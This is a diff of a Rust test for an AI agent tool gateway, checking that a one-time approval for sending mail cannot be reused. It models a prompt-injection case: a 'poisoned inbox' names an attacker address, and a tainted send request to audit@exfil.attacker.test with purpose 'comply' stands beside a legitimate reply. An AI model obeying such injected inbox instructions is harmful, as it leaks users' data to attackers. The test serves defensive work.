@@ -512,10 +512,7 @@ async fn an_approval_standing_in_for_the_end_user_is_spent_once() {
     let gw = Gateway::start(&dep);
     gw.wait_server("workspace", "ready").await;
     let triage = gw.connect(&dep.mint("triage")).await;
-    let task = begin(&triage, json!([{"name": "read", "tools": ["workspace__read_inbox"]}, {"name": "reply", "tools": ["workspace__send_message"]}])).await.unwrap();
-    let read = request(&triage, &task, "workspace__read_inbox", json!({})).await.unwrap();
-    call_with_token(&triage, "workspace__read_inbox", json!({}), &read).await.unwrap();
-    raw_call(&triage, "jit_next_phase", json!({"task": task, "phase": "reply"})).await.unwrap();
+    let task = after_reading_the_poisoned_inbox(&triage).await;
     let send = json!({"task": task, "tool": "workspace__send_message", "arguments": {"to": "dana@acme.example", "subject": "Renewal", "body": "2027-01-31"}, "purpose": "answer Dana"});
     // The inbox body names the attacker's address: that request is tainted.
     let send_tainted = json!({"task": task, "tool": "workspace__send_message", "arguments": {"to": "audit@exfil.attacker.test", "subject": "Audit", "body": "see attached"}, "purpose": "comply"});
